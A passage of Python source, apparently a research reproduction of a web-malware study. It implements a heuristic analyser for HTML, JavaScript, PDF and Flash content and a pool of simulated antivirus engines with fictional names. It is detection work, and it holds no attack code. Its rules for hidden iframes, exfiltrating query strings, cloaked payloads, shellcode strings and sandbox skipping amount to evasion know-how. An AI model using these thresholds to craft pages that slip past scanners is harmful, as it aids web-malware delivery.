            score = max(score, 0.6)
        elif self.obfuscation_layers == 1:
            score = max(score, 0.45)
        if self.pdf_auto_executes:
            score = max(score, 0.8)
        if self.pdf_malformed and self.pdf_embedded_js:
            score = max(score, 0.85)
        return score

    @property
    def flash_score(self) -> float:
        score = 0.0
        if self.external_interface_calls:
            score += 0.5
        if self.flash_invisible_overlay:
            score += 0.3
        if self.flash_allows_any_domain:
            score += 0.2
        return min(score, 1.0)

    # -- provenance ----------------------------------------------------------
    def static_evidence(self) -> dict:
        """JSON-safe facts the staticjs stage contributed."""
        return {
            "findings": len(self.static_findings),
            "rules": sorted({f.rule for f in self.static_findings}),
            "max_severity": max(
                (f.severity for f in self.static_findings),
                key=lambda s: ("info", "low", "medium", "high").index(s)
                if s in ("info", "low", "medium", "high") else -1,
                default="none",
            ),
            "sandbox_skipped": self.sandbox_skipped,
            "redirect_targets": list(self.static_redirect_targets),
        }

    def sandbox_evidence(self) -> dict:
        """JSON-safe facts the dynamic-sandbox stage contributed."""
        return {
            "kind": self.kind,
            "skipped": self.sandbox_skipped,
            "hidden_iframes": len(self.hidden_iframes),
            "navigations": len(self.navigations),
            "popups": len(self.popups),
            "download_triggers": len(self.download_triggers),
            "beacons": len(self.beacons),
            "fingerprinting_listeners": self.fingerprinting_listeners,
            "document_writes": self.document_writes,
            "obfuscation_layers": self.obfuscation_layers,
            "eval_count": self.eval_count,
            "redirect_stub": self.redirect_stub,
            "behavior_score": round(self.behavior_score, 4),
            "iframe_score": round(self.malicious_iframe_score, 4),
        }


def analyze_content(content: bytes, content_type: str = "text/html",
                    url: str = "http://unknown.invalid/",
                    observer: Optional[object] = None,
                    static_prefilter: bool = True,
                    compile_cache: Optional[object] = None,
                    js_backend: Optional[str] = None) -> ContentAnalysis:
    """Dispatch on artifact type and analyze.

    ``observer`` (a :class:`repro.obs.RunObserver`, optional) is threaded
    into the JS sandbox so eval-depth/op-count gauges cover every script
    the scanners execute.  ``static_prefilter`` enables the
    :mod:`repro.staticjs` pass: scripts get static findings before any
    sandbox run, and pages whose every inline script is provably
    side-effect-free skip dynamic execution entirely.  ``compile_cache``
    (a :class:`repro.jsengine.CompileCache`, optional) makes the sandbox
    compile each distinct script source once per run.  ``js_backend``
    selects the sandbox execution backend (``"ast"`` or ``"vm"``; both
    produce identical analyses).
    """
    if content_type.startswith("application/x-shockwave-flash") or SwfFile.sniff(content):
        return analyze_swf(content)
    if content_type.startswith("application/pdf") or content[:5] == b"%PDF-":
        return analyze_pdf(content, observer=observer, compile_cache=compile_cache,
                           js_backend=js_backend)
    if content_type.startswith(("application/x-msdownload", "application/octet-stream")) and content[:2] == b"MZ":
        analysis = ContentAnalysis(kind="executable")
        analysis.executable_signature_hit = is_malicious_executable(content)
        return analysis
    text = content.decode("utf-8", errors="replace")
    if content_type.startswith(("application/javascript", "text/javascript")):
        return _analyze_standalone_js(text, url, observer=observer,
                                      static_prefilter=static_prefilter,
                                      compile_cache=compile_cache,
                                      js_backend=js_backend)
    return analyze_html(text, url, observer=observer, static_prefilter=static_prefilter,
                        compile_cache=compile_cache, js_backend=js_backend)


def _observe(observer: Optional[object], name: str, amount: float = 1.0,
             **labels: str) -> None:
    count = getattr(observer, "count", None)
    if count is not None:
        count(name, amount, **labels)


_NULL_FRAME: ContextManager[None] = nullcontext()


def _frame(observer: Optional[object], name: str) -> ContextManager[None]:
    """Profiler frame when the observer supports one, else a shared no-op."""
    frame = getattr(observer, "frame", None)
    return frame(name) if frame is not None else _NULL_FRAME


def analyze_html(html: str, url: str = "http://unknown.invalid/",
                 observer: Optional[object] = None,
                 static_prefilter: bool = True,
                 compile_cache: Optional[object] = None,
                 js_backend: Optional[str] = None) -> ContentAnalysis:
    """Full static + dynamic analysis of an HTML page.

    With ``static_prefilter`` on, every inline script is first analyzed
    by :func:`repro.staticjs.analyze_script`.  The sandbox runs unless
    *all* inline scripts receive the ``benign`` verdict — which the
    static analyzer only issues when a script provably cannot produce
    any signal the dynamic heuristics consume — so skipping is
    behaviour-preserving: the resulting :class:`ContentAnalysis` is
    identical to what the dynamic pass would have produced.
    """
    analysis = ContentAnalysis(kind="html")
    static_doc = parse(html, observer=observer)
    static_scripts = select(static_doc, "script")

    # ---- static pre-filter: analyze inline scripts without executing ----
    skip_sandbox = False
    absint_skip = False
    reports: List[ScriptReport] = []
    if static_prefilter:
        with _frame(observer, "staticjs"):
            for script in static_scripts:
                if script.get("src"):
                    continue
                source = script.text_content()
                if not source.strip():
                    continue
                report = analyze_script(source, observer=observer,
                                        compile_cache=compile_cache)
                reports.append(report)
                analysis.static_findings.extend(report.findings)
                for target in report.redirect_targets:
                    if target not in analysis.static_redirect_targets:
                        analysis.static_redirect_targets.append(target)
                _observe(observer, "staticjs.scripts")
                _observe(observer, "staticjs.verdict", verdict=report.verdict)
        skip_sandbox = all(r.verdict == VERDICT_BENIGN for r in reports)
        if skip_sandbox and reports:
            _observe(observer, "staticjs.sandbox.skipped_scripts",
                     amount=float(len(reports)))
        elif not skip_sandbox:
            # not all benign — the abstract interpreter may still prove
            # the page's complete dynamic effects, making execution
            # redundant (the effects are replayed instead)
            absint_skip, blockers = _page_skip_decision(reports)
            if absint_skip:
                _observe(observer, "staticjs.absint.skipped_pages")
                _observe(observer, "staticjs.sandbox.skipped_scripts",
                         amount=float(len(reports)))
            else:
                reason = blockers[0].partition(":")[0] if blockers else "unknown"
                _observe(observer, "staticjs.absint.blocked_pages",
                         reason=reason)

    if skip_sandbox:
        # every script is provably side-effect-free (or there are no
        # inline scripts at all): the post-execution state equals the
        # static state, so synthesize the dynamic fields directly
        analysis.sandbox_skipped = True
        document = static_doc
        analysis.remote_scripts = [
            script.get("src") for script in static_scripts if script.get("src")
        ]
        _observe(observer, "staticjs.sandbox.skipped_pages")
    elif absint_skip:
        # every script's effect summary is complete and the summaries
        # compose (no cross-script interference): replay the recorded
        # effects instead of executing
        analysis.sandbox_skipped = True
        with _frame(observer, "staticjs.synthesize"):
            document = _synthesize_dynamic(analysis, html, static_scripts,
                                           reports, observer)
        _observe(observer, "staticjs.sandbox.skipped_pages")
    else:
        # ---- dynamic pass: execute scripts, observe behaviour, mutate DOM
        with _frame(observer, "sandbox"):
            host = run_script_in_page(html, url=url, step_budget=200_000,
                                      observer=observer,
                                      compile_cache=compile_cache,
                                      js_backend=js_backend)
        document = host.document_tree
        analysis.navigations = list(host.log.navigations)
        analysis.popups = list(host.log.popups)
        analysis.download_triggers = list(host.log.download_triggers)
        analysis.beacons = list(host.log.beacons)
        analysis.fingerprinting_listeners = len(host.log.fingerprinting_events)
        analysis.document_writes = len(host.log.document_writes)
        analysis.analysis_errors = list(host.log.errors)
        analysis.remote_scripts = list(host.requested_scripts)
        if static_prefilter:
            _observe(observer, "staticjs.sandbox.executed_pages")
            statically_suspicious = any(
                f.severity in ("medium", "high") for f in analysis.static_findings)
            dynamically_active = bool(
                analysis.navigations or analysis.popups or analysis.beacons
                or analysis.document_writes or analysis.fingerprinting_listeners)
            _observe(observer, "staticjs.agreement",
                     agree="true" if statically_suspicious == dynamically_active
                     else "false")

    # which iframes exist only because a script injected them?
    static_frame_srcs = {frame.get("src") for frame in select(static_doc, "iframe")}

    # ---- iframe heuristics over the post-execution DOM ----
    for frame in select(document, "iframe"):
        finding = _classify_iframe(frame)
        if finding is None:
            continue
        finding.injected_by_js = frame.get("src") not in static_frame_srcs
        analysis.hidden_iframes.append(finding)

    # ---- script heuristics ----
    scripts = select(static_doc, "script")
    analysis.script_count = len(scripts)
    for script in scripts:
        source = script.text_content()
        if not source.strip():
            continue
        _merge_script_analysis(analysis, source)

    # ---- redirect stub detection ----
    body_text = static_doc.body.text_content().strip() if static_doc.body else ""
    if analysis.navigations and len(body_text) < 200 and not analysis.download_triggers:
        analysis.redirect_stub = True
        analysis.redirect_target = analysis.navigations[0]
    meta_refresh = [
        m for m in select(static_doc, "meta")
        if m.get("http-equiv", "").lower() == "refresh" and "url=" in m.get("content", "").lower()
    ]
    if meta_refresh:
        analysis.redirect_stub = True
        content = meta_refresh[0].get("content", "")
        analysis.redirect_target = content.lower().partition("url=")[2]

    # ---- deceptive download bar signature ----
    lowered = html.lower()
    if ("plug-in" in lowered or "plugin" in lowered) and (
        "download_link" in lowered or "data-dm-href" in lowered
    ):
        analysis.deceptive_download_bar = True
    if any(trigger.lower().split("?")[0].endswith(".exe") for trigger in analysis.navigations):
        analysis.deceptive_download_bar = analysis.deceptive_download_bar or "install" in lowered

    return analysis


def _page_skip_decision(reports: List[ScriptReport]) -> "tuple[bool, List[str]]":
    """Decide whether abstract effect summaries justify skipping the sandbox.

    The per-script summaries were each computed against a *fresh* page, so
    replaying them in sequence is only faithful when no script can observe
    another script's side effects.  Every failed condition appends a
    ``category[:detail]`` blocker (surfaced by ``static-scan
    --explain-skips``); the page may skip only when no condition fails.
    """
    blockers: List[str] = []
    effs: List[AbstractEffects] = []
    for report in reports:
        effects = report.effects
        if effects is None:
            blockers.append("no-effects")
        elif not effects.complete:
            blockers.append("incomplete:%s" % (effects.abort_reason or "unknown"))
        else:
            effs.append(effects)
    if blockers:
        return False, blockers

    # the real page shares one step budget across all scripts and events;
    # staying under a stricter page-wide bound proves no BudgetExceeded
    if sum(e.steps for e in effs) > PAGE_STEP_BUDGET:
        return False, ["step-budget"]

    # cross-script global interference: script j reading a name script i
    # writes would observe i's value, but its summary saw a fresh global
    for i, left in enumerate(effs):
        writes = set(left.global_writes)
        if not writes:
            continue
        for j, right in enumerate(effs):
            if i == j:
                continue
            clash = writes.intersection(right.global_reads)
            if clash:
                blockers.append("global-interference:%s" % sorted(clash)[0])

    # document.cookie is one shared string: a read in one script after a
    # write in another sees state the summary never modelled
    writers = [i for i, e in enumerate(effs) if e.cookie_written]
    readers = [i for i, e in enumerate(effs) if e.cookie_read]
    if any(i != j for i in writers for j in readers):
        blockers.append("cookie-interference")

    # handler slots (document.onX, element.onX) are host-global state;
    # the simulated load/click/mousemove phases fired each script's
    # handlers in isolation, so firing order and slot overwrites must be
    # provably the same on the composed page
    events: set = set()
    for e in effs:
        events.update(e.doc_handler_events)
        events.update(e.doc_handler_reads)
        events.update(e.element_handler_events)
        events.update(e.element_handler_reads)
        events.update(e.opaque_element_handler_events)
    for event in sorted(events):
        doc_owners = [i for i, e in enumerate(effs)
                      if event in e.doc_handler_events]
        doc_readers = [i for i, e in enumerate(effs)
                       if event in e.doc_handler_reads]
        elem_owners = [i for i, e in enumerate(effs)
                       if event in e.element_handler_events]
        elem_readers = [i for i, e in enumerate(effs)
                        if event in e.element_handler_reads]
        opaque_owners = [i for i, e in enumerate(effs)
                         if event in e.opaque_element_handler_events]
        # reading document.onX sees whichever script wrote the slot last
        if any(any(i != j for i in doc_owners) for j in doc_readers):
            blockers.append("doc-handler-read:%s" % event)
        # an opaque wrapper may alias an element another script reads from
        if any(any(i != j for i in opaque_owners) for j in elem_readers):
            blockers.append("opaque-alias-read:%s" % event)
        if event not in EVENT_PHASES:
            continue
        # two document-level handlers: the later write wins on the real
        # page, but both summaries fired their own
        if len(doc_owners) > 1:
            blockers.append("doc-handler-conflict:%s" % event)
        # the real host fires the document handler before every element
        # handler; script-ordered replay only matches when the document
        # owner precedes all element owners
        if doc_owners and elem_owners and min(elem_owners) < doc_owners[0]:
            blockers.append("doc-handler-order:%s" % event)
        # handlers placed through opaque page-node wrappers may share an
        # element with (and silently overwrite) another script's handler
        if opaque_owners and (
            len(opaque_owners) > 1
            or (set(elem_owners) | set(elem_readers)) - {opaque_owners[0]}
        ):
            blockers.append("opaque-handler-conflict:%s" % event)
        # replay concatenates per-script effect buckets in script order,
        # which equals real registration order only when every handler
        # was registered during the script phase (a load handler adding a
        # click handler would fire out of bucket order)
        owners = set(doc_owners) | set(elem_owners)
        if len(owners) > 1 and any(
            phase.name != "script"
            and any(listener_event == event for _t, listener_event in phase.listeners)
            for e in effs for phase in e.phases
        ):
            blockers.append("late-registration:%s" % event)

    return (not blockers, blockers)


def _synthesize_dynamic(analysis: ContentAnalysis, html: str,
                        static_scripts: List[Element],
                        reports: List[ScriptReport],
                        observer: Optional[object]) -> Element:
    """Replay complete abstract effect summaries in page order.

    Reconstructs exactly what :func:`run_script_in_page` would have
    produced — the behaviour log fields and the post-execution document
    the iframe scan walks — from the per-script
    :class:`~repro.staticjs.absint.AbstractEffects`.  Only callable when
    :func:`_page_skip_decision` approved the page.
    """
    log = BehaviorLog()
    document = parse(html, observer=observer)
    body = document.body
    write_target = body if body is not None else document

    # phase replay order mirrors the sandbox: each script's script phase
    # in document order, then each simulated event across all scripts
    phase_order = []
    for report in reports:
        entry = report.effects.phase("script")
        if entry is not None:
            phase_order.append(entry)
    for event in EVENT_PHASES:
        for report in reports:
            entry = report.effects.phase(event)
            if entry is not None:
                phase_order.append(entry)

    for entry in phase_order:
        log.navigations.extend(entry.navigations)
        log.popups.extend(entry.popups)
        log.beacons.extend(entry.beacons)
        log.listeners.extend(entry.listeners)
        log.cookies_set.extend(entry.cookies_set)
        log.created_elements.extend(entry.created_elements)
        log.appended_elements.extend(entry.appended_elements)
        log.errors.extend(entry.errors)
        log.timeouts_scheduled += entry.timeouts_scheduled
        for markup, attached in entry.document_writes:
            log.document_writes.append(markup)
            if attached:
                # document.write appends the parsed fragment to <body>
                fragment = parse_fragment(markup, observer=observer)
                for child in list(fragment.children):
                    write_target.append(child)

    # remote script requests interleave src tags with each inline
    # script's own requests during the page-load loop, then append
    # event-phase requests in firing order
    remote: List[str] = []
    inline_reports = iter(reports)
    for script in static_scripts:
        if script.get("src"):
            remote.append(script.get("src"))
            continue
        if not script.text_content().strip():
            continue
        entry = next(inline_reports).effects.phase("script")
        if entry is not None:
            remote.extend(entry.requested_scripts)
    for event in EVENT_PHASES:
        for report in reports:
            entry = report.effects.phase(event)
            if entry is not None:
                remote.extend(entry.requested_scripts)

    analysis.navigations = list(log.navigations)
    analysis.popups = list(log.popups)
    analysis.download_triggers = list(log.download_triggers)
    analysis.beacons = list(log.beacons)
    analysis.fingerprinting_listeners = len(log.fingerprinting_events)
    analysis.document_writes = len(log.document_writes)
    analysis.analysis_errors = list(log.errors)
    analysis.remote_scripts = remote
    return document


def analyze_swf(content: bytes) -> ContentAnalysis:
    """Decompile SWF bytes and extract indicators."""
    analysis = ContentAnalysis(kind="flash")
    try:
        swf = SwfFile.from_bytes(content)
    except SwfError as exc:
        analysis.analysis_errors.append(str(exc))
        return analysis
    decompiled = decompile(swf)
    analysis.external_interface_calls = [name for name, _arg in decompiled.external_calls]
    analysis.flash_invisible_overlay = decompiled.transparent_overlay
    analysis.flash_allows_any_domain = decompiled.allows_any_domain
    analysis.navigations = list(decompiled.navigations)
    return analysis


def analyze_pdf(content: bytes, observer: Optional[object] = None,
                compile_cache: Optional[object] = None,
                js_backend: Optional[str] = None) -> ContentAnalysis:
    """Inspect a PDF: malformed structure and embedded JavaScript.

    Quttera-style heuristics (Section III-B lists "malformed PDFs"):
    an ``/OpenAction`` driving ``/JS`` is auto-execution; a broken or
    truncated xref on top of that is the exploit-delivery signature.
    """
    import re as _re

    analysis = ContentAnalysis(kind="pdf")
    text = content.decode("latin-1", errors="replace")

    malformed = not text.rstrip().endswith("%%EOF")
    # verify the xref offsets actually point at objects
    xref_match = _re.search(r"xref\n0 (\d+)\n", text)
    if xref_match:
        entries = _re.findall(r"(\d{10}) \d{5} n", text)
        for raw_offset in entries:
            offset = int(raw_offset)
            if offset >= len(content) or not _re.match(
                r"\d+ 0 obj", text[offset:offset + 20]
            ):
                malformed = True
                break
    else:
        malformed = True
    analysis.pdf_malformed = malformed

    js_blobs = _re.findall(r"/JS\s*\(((?:[^()\\]|\\.)*)\)", text)
    has_open_action = "/OpenAction" in text
    for blob in js_blobs:
        source = blob.replace("\\(", "(").replace("\\)", ")").replace("\\\\", "\\")
        analysis.pdf_embedded_js = True
        _merge_script_analysis(analysis, source)
        # run the auto-executed script in the sandbox
        page = "<html><body><script>%s</script></body></html>" % source
        with _frame(observer, "sandbox"):
            host = run_script_in_page(page, step_budget=100_000,
                                      observer=observer,
                                      compile_cache=compile_cache,
                                      js_backend=js_backend)
        analysis.navigations.extend(host.log.navigations)
        analysis.download_triggers.extend(host.log.download_triggers)
        analysis.popups.extend(host.log.popups)
    analysis.pdf_auto_executes = has_open_action and bool(js_blobs)
    return analysis


def _analyze_standalone_js(source: str, url: str,
                           observer: Optional[object] = None,
                           static_prefilter: bool = True,
                           compile_cache: Optional[object] = None,
                           js_backend: Optional[str] = None) -> ContentAnalysis:
    """Analyze a bare ``.js`` file by wrapping it in a page."""
    page = "<html><body><script>%s</script></body></html>" % source
    analysis = analyze_html(page, url=url, observer=observer,
                            static_prefilter=static_prefilter,
                            compile_cache=compile_cache,
                            js_backend=js_backend)
    analysis.kind = "javascript"
    return analysis


def _merge_script_analysis(analysis: ContentAnalysis, source: str) -> None:
    deob = deobfuscate(source)
    analysis.obfuscation_layers = max(analysis.obfuscation_layers, deob.layers)
    if deob.layers == 0 and looks_obfuscated(source):
        analysis.obfuscation_layers = max(analysis.obfuscation_layers, 1)
    features = extract_features(deob.source)
    analysis.obfuscation_score = max(analysis.obfuscation_score, features.obfuscation_score)
    analysis.injection_score = max(analysis.injection_score, features.injection_score)
    analysis.eval_count += features.eval_count


def _classify_iframe(frame: Element) -> Optional[IframeFinding]:
    """Return a finding when the iframe is hidden, else None."""
    width = frame.dimension("width")
    height = frame.dimension("height")
    style = frame.style
    src = frame.get("src")

    hidden_by = ""
    if style.get("visibility") == "hidden" or style.get("display") == "none":
        hidden_by = "visibility"
    elif _ancestor_hidden(frame):
        hidden_by = "visibility"
    elif width is not None and height is not None and width <= 3 and height <= 3:
        hidden_by = "tiny"
        if frame.get("allowtransparency") == "true":
            hidden_by = "transparency"
    elif _offscreen(style):
        hidden_by = "offscreen"
    if not hidden_by:
        return None

    exfiltrates = False
    parsed = Url.try_parse(src)
    if parsed is not None:
        params = parsed.query_dict
        exfiltrates = any(len(v) >= 8 for v in params.values()) and len(params) >= 2
    return IframeFinding(
        src=src, width=width, height=height, hidden_by=hidden_by, exfiltrates_query=exfiltrates
    )


def _ancestor_hidden(frame: Element) -> bool:
    for ancestor in frame.ancestors:
        style = ancestor.style
        if style.get("display") == "none" or style.get("visibility") == "hidden":
            return True
    return False


def _offscreen(style: dict) -> bool:
    top = style.get("top", "")
    left = style.get("left", "")
    if style.get("position") == "absolute":
        for value in (top, left):
            cleaned = value.replace("px", "").strip()
            try:
                if float(cleaned) <= -50:
                    return True
            except ValueError:
                continue
    return False
