"""Malware detection tools (simulated third-party services).

* :class:`VirusTotalSim` — multi-engine aggregator (URL and file scans),
* :class:`QutteraSim` — deep heuristic scanner with threat reports,
* :class:`BlacklistSet` — six public blacklists + the ≥2-lists rule,
* the six vetted-and-rejected tools (:mod:`repro.detection.others`),
* :func:`vet_tools` — the gold-standard tool-selection experiment,
* :class:`UrlVerdictService` — the combined per-URL verdict the crawl
  pipeline records.
"""

from .aggregate import UrlVerdict, UrlVerdictService
from .base import (
    DeprecatedScanShims,
    EngineResult,
    ScanReport,
    Scanner,
    Submission,
    stable_unit,
)
from .blacklists import BLACKLIST_PROFILES, Blacklist, BlacklistSet, build_blacklists
from .engines import SimulatedEngine, default_engine_pool
from .heuristics import ContentAnalysis, IframeFinding, analyze_content, analyze_html, analyze_swf
from .others import (
    LimitedScanner,
    all_rejected_tools,
    make_avg_threatlab,
    make_brightcloud,
    make_senderbase,
    make_sitecheck,
    make_urlquery,
    make_wepawet,
)
from .quttera import QutteraSim, QutteraThreat
from .vetting import GoldSample, VettingResult, build_gold_standard, vet_tools
from .virustotal import VirusTotalSim

__all__ = [
    "BLACKLIST_PROFILES",
    "Blacklist",
    "BlacklistSet",
    "ContentAnalysis",
    "DeprecatedScanShims",
    "EngineResult",
    "GoldSample",
    "IframeFinding",
    "LimitedScanner",
    "QutteraSim",
    "QutteraThreat",
    "ScanReport",
    "Scanner",
    "SimulatedEngine",
    "Submission",
    "UrlVerdict",
    "UrlVerdictService",
    "VettingResult",
    "VirusTotalSim",
    "all_rejected_tools",
    "analyze_content",
    "analyze_html",
    "analyze_swf",
    "build_blacklists",
    "build_gold_standard",
    "default_engine_pool",
    "make_avg_threatlab",
    "make_brightcloud",
    "make_senderbase",
    "make_sitecheck",
    "make_urlquery",
    "make_wepawet",
    "stable_unit",
    "vet_tools",
]
