"""The simulated antivirus engine pool behind VirusTotal.

VirusTotal "takes into account the results of multiple antivirus
products, file characterization tools, and website scanning engines"
(Section III-B).  We model a pool of engines with *heterogeneous
capabilities*: each engine understands a subset of artifact classes and
applies its own thresholds to the shared :class:`ContentAnalysis`, plus
a small deterministic per-engine noise term — so engines disagree with
each other the way real AV products do, and borderline samples slip past
some engines but rarely the whole pool.

Every detector receives the artifact key so that rare heuristic false
positives (e.g. the Faceliker mislabeling of Google Analytics, Section
V-E) fire deterministically on a sparse, stable subset of artifacts.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Callable, List, Optional

from .base import EngineResult, stable_unit
from .heuristics import ContentAnalysis

__all__ = ["SimulatedEngine", "default_engine_pool"]

Detector = Callable[[ContentAnalysis, str], Optional[str]]


@dataclass
class SimulatedEngine:
    """One AV engine: a named detector over :class:`ContentAnalysis`.

    ``detector`` returns a label when the engine detects, else None.
    ``miss_rate`` is the chance a true detection is dropped (signature
    gaps); ``fp_rate`` the chance of a spurious verdict on clean-looking
    content — both keyed deterministically on (engine, artifact).
    """

    name: str
    detector: Detector
    miss_rate: float = 0.03
    fp_rate: float = 0.001
    #: optional :class:`repro.obs.RunObserver` counting signature-gap
    #: misses and spurious heuristic fires per engine (None = no-op)
    observer: Optional[object] = None

    def scan(self, analysis: ContentAnalysis, artifact_key: str) -> EngineResult:
        label = self.detector(analysis, artifact_key)
        roll = stable_unit(self.name, artifact_key)
        if label is not None:
            if roll < self.miss_rate:
                if self.observer is not None:
                    self.observer.count("scan.engine.signature_miss", engine=self.name)
                return EngineResult(engine=self.name, detected=False)
            return EngineResult(engine=self.name, detected=True, label=label)
        if roll > 1.0 - self.fp_rate:
            if self.observer is not None:
                self.observer.count("scan.engine.heuristic_fp", engine=self.name)
            return EngineResult(engine=self.name, detected=True, label="Heur.Suspicious.Generic")
        return EngineResult(engine=self.name, detected=False)


# ---------------------------------------------------------------------------
# Detector functions — each encodes one real-world detection strategy
# ---------------------------------------------------------------------------

def _iframe_signature(analysis: ContentAnalysis, key: str) -> Optional[str]:
    """Signature-style hidden-iframe detector (no whitelist: FP-prone)."""
    if analysis.malicious_iframe_score >= 0.5:
        return "HTML/IframeRef.gen"
    if analysis.hidden_iframes:
        return "Mal_Hifrm"
    return None


def _iframe_whitelist_aware(analysis: ContentAnalysis, key: str) -> Optional[str]:
    """Hidden-iframe detector that skips trusted platform frames."""
    untrusted = [f for f in analysis.hidden_iframes if not f.trusted_host]
    if not untrusted:
        return None
    if any(f.injected_by_js for f in untrusted):
        return "Trojan.IFrame.Script"
    return "htm.iframe.art.gen"


def _iframe_strict(analysis: ContentAnalysis, key: str) -> Optional[str]:
    """A third independent hidden-iframe signature corpus."""
    untrusted = [f for f in analysis.hidden_iframes if not f.trusted_host]
    if untrusted:
        return "HiddenFrame.Gen"
    return None


def _script_injection(analysis: ContentAnalysis, key: str) -> Optional[str]:
    if analysis.injection_score >= 0.55 and any(
        f.injected_by_js for f in analysis.hidden_iframes
    ):
        return "Virus.ScrInject.JS"
    if analysis.injection_score >= 0.55 and analysis.document_writes:
        return "Script.virus"
    return None


def _obfuscation_heuristic(analysis: ContentAnalysis, key: str) -> Optional[str]:
    if analysis.obfuscation_layers >= 2:
        return "Trojan.Script.Heuristic-js.iacgm"
    if analysis.obfuscation_layers == 1 and analysis.eval_count >= 1:
        return "Trojan.Script.Heuristic-js.iacgm"
    if analysis.obfuscation_score >= 0.6:
        return "Heur.JS.Obfuscated"
    return None


def _redirector(analysis: ContentAnalysis, key: str) -> Optional[str]:
    if analysis.redirect_stub:
        return "Trojan:JS/Redirector"
    if analysis.navigations and analysis.kind == "javascript" and not analysis.download_triggers:
        return "Trojan.Script.Generic"
    return None


def _deceptive_download(analysis: ContentAnalysis, key: str) -> Optional[str]:
    if analysis.download_triggers:
        return "Trojan:Win32/FakeFlash"
    if analysis.deceptive_download_bar:
        return "Trojan.Script.Heuristic-js.iacgm"
    return None


def _flash_behaviour(analysis: ContentAnalysis, key: str) -> Optional[str]:
    if analysis.kind != "flash":
        return None
    if analysis.flash_score >= 0.7:
        return "BehavesLike.JS.ExploitBlacole.nv"
    if analysis.flash_score >= 0.5:
        return "BehavesLike.JS.ExploitBlacole.xm"
    return None


def _executable_signature(analysis: ContentAnalysis, key: str) -> Optional[str]:
    if analysis.kind == "executable" and analysis.executable_signature_hit:
        return "Trojan:Win32/Agent.REPRO"
    return None


def _executable_emulation(analysis: ContentAnalysis, key: str) -> Optional[str]:
    """A second, independent executable detector (emulation-style)."""
    if analysis.kind == "executable" and analysis.executable_signature_hit:
        return "Gen:Variant.Malware.Sim"
    return None


def _pdf_exploit(analysis: ContentAnalysis, key: str) -> Optional[str]:
    if analysis.kind != "pdf":
        return None
    if analysis.pdf_malformed and analysis.pdf_embedded_js:
        return "Exploit:PDF/Malformed.Gen"
    if analysis.pdf_auto_executes:
        return "Trojan:PDF/OpenAction.JS"
    return None


def _spyware(analysis: ContentAnalysis, key: str) -> Optional[str]:
    if analysis.fingerprinting_listeners >= 2 and analysis.beacons:
        return "Trojan:JS/Spy.Tracker"
    return None


def _popup_clicker(analysis: ContentAnalysis, key: str) -> Optional[str]:
    if analysis.popups and (analysis.obfuscation_layers or analysis.external_interface_calls):
        return "TrojanClicker:JS/Agent"
    # GA-style dynamic script loaders occasionally trip this engine's
    # like-jacking heuristic (the paper's Faceliker false positive,
    # Section V-E); the trigger is sparse and deterministic per artifact.
    if (
        analysis.kind == "html"
        and any("google-analytics" in s for s in analysis.remote_scripts)
        and analysis.document_writes == 0
        and stable_unit("faceliker-heuristic", key) < 0.08
    ):
        return "TrojanClicker:JS/Faceliker.D"
    return None


def _static_cloaking(analysis: ContentAnalysis, key: str) -> Optional[str]:
    """AST-analysis engine: cloaked branches and tainted sink flows.

    Fires purely on :mod:`repro.staticjs` findings — the signals a
    dynamic run structurally *cannot* see (a constant-false guard keeps
    the payload from ever executing in a honeyclient).
    """
    for finding in analysis.static_findings:
        if finding.rule == "cloaked-payload":
            return "Trojan.JS.Agent.Cloaked"
        if finding.rule == "taint-flow":
            return "Trojan.JS.Redirector.Taint"
    return None


def _static_payload(analysis: ContentAnalysis, key: str) -> Optional[str]:
    """AST-analysis engine: statically resolved malicious payloads.

    Detects what constant folding recovered from obfuscated strings
    (shellcode sleds, dropper URLs) without executing the script; the
    same artifacts also light up the dynamic engines, so this engine
    adds corroboration rather than new positives.
    """
    high = [f for f in analysis.static_findings if f.severity == "high"]
    for finding in high:
        if finding.rule == "shellcode-string":
            return "Exploit.JS.ShellCode.Static"
        if finding.rule == "resolved-url-exe":
            return "Trojan-Downloader.JS.Static"
        if finding.rule == "hidden-iframe-write":
            return "HTML/IframeRef.Static"
    return None


def _generalist_behaviour(analysis: ContentAnalysis, key: str) -> Optional[str]:
    if analysis.behavior_score >= 0.75:
        return "Malware.Generic"
    return None


def _generalist_combined(analysis: ContentAnalysis, key: str) -> Optional[str]:
    score = max(
        analysis.behavior_score,
        analysis.malicious_iframe_score,
        analysis.flash_score,
    )
    if analysis.kind == "executable" and analysis.executable_signature_hit:
        score = max(score, 0.95)
    if score >= 0.5:
        return "Suspicious.Page"
    return None


def default_engine_pool(observer: Optional[object] = None) -> List[SimulatedEngine]:
    """The standard pool of simulated engines (names are fictional)."""
    pool = [
        SimulatedEngine("AegisAV", _iframe_signature, miss_rate=0.03, fp_rate=0.001),
        SimulatedEngine("BitSentry", _iframe_whitelist_aware, miss_rate=0.03),
        SimulatedEngine("NanoDef", _iframe_strict, miss_rate=0.04),
        SimulatedEngine("CipherGuard", _script_injection, miss_rate=0.05),
        SimulatedEngine("DeepHeur", _obfuscation_heuristic, miss_rate=0.04),
        SimulatedEngine("EverScan", _redirector, miss_rate=0.05),
        SimulatedEngine("FortiSim", _deceptive_download, miss_rate=0.03),
        SimulatedEngine("GlacierAV", _flash_behaviour, miss_rate=0.03),
        SimulatedEngine("HexaShield", _executable_signature, miss_rate=0.01, fp_rate=0.0005),
        SimulatedEngine("OberonLab", _executable_emulation, miss_rate=0.02, fp_rate=0.0005),
        SimulatedEngine("PaperTiger", _pdf_exploit, miss_rate=0.03),
        SimulatedEngine("IronVeil", _spyware, miss_rate=0.08),
        SimulatedEngine("JadeWall", _popup_clicker, miss_rate=0.10, fp_rate=0.002),
        SimulatedEngine("KoboldSec", _generalist_behaviour, miss_rate=0.04),
        SimulatedEngine("LumenAV", _generalist_combined, miss_rate=0.04),
        # static-analysis engines: consume repro.staticjs findings only.
        # fp_rate=0 keeps them strictly additive — they corroborate
        # dynamic detections (or catch cloaked payloads the sandbox
        # can't) without ever flipping a clean page's verdict
        SimulatedEngine("MorphoStat", _static_cloaking, miss_rate=0.0, fp_rate=0.0),
        SimulatedEngine("QuartzAST", _static_payload, miss_rate=0.02, fp_rate=0.0),
    ]
    for engine in pool:
        engine.observer = observer
    return pool
