"""Aggregate URL verdicts across VirusTotal, Quttera, and blacklists.

The study labels a URL malicious when the malware detection tools flag
it; blacklist membership (on 2+ lists) independently marks a domain
malicious.  :class:`UrlVerdictService` is the single point the crawler
pipeline calls per URL, implementing the cloaking mitigation: page
content saved by the crawler is submitted as a *file*, so scanners see
what the victim's browser saw.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import List, Optional

from ..obs.provenance import (
    STAGE_AGGREGATE,
